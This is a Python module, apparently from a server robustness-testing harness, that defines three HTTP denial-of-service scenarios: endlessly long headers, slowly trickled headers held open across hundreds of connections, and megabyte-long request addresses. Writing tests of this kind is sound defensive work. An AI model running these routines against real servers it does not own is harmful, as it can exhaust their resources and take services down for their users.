"""Requests whose head never ends."""

from __future__ import annotations

import asyncio

from .attack import Attack

LINE_OF_A_HEAD = b"X-More: " + b"a" * 1000 + b"\r\n"
MOST_BYTES = 400 << 20  # of all heads together: enough to see, not enough to harm the machine


class GiantHeads(Attack):
    """Heads of requests that go on for megabytes, as fast as the server reads them."""

    at_once = 40
    _bytes = 0

    async def strike(self) -> None:
        wire = await self.guest.wire(self.guest.head("GET", "/me"))
        while self._bytes < MOST_BYTES:
            wire.write(LINE_OF_A_HEAD * 64)
            self._bytes += len(LINE_OF_A_HEAD) * 64
            await wire.drain()
        await asyncio.sleep(1)


class TrickledHeads(Attack):
    """Hundreds of heads of requests that get one more line every half second and never end."""

    at_once = 400

    async def strike(self) -> None:
        wire = await self.guest.wire(self.guest.head("GET", "/me"))
        while True:
            wire.write(LINE_OF_A_HEAD)
            await wire.drain()
            await asyncio.sleep(0.5)


class GiantAddresses(Attack):
    """Requests for an address of megabytes, which a parser may collect before it looks."""

    async def strike(self) -> None:
        wire = await self.guest.wire(b"GET /")
        for _ in range(40):
            wire.write(b"a" * 65536)
            await wire.drain()
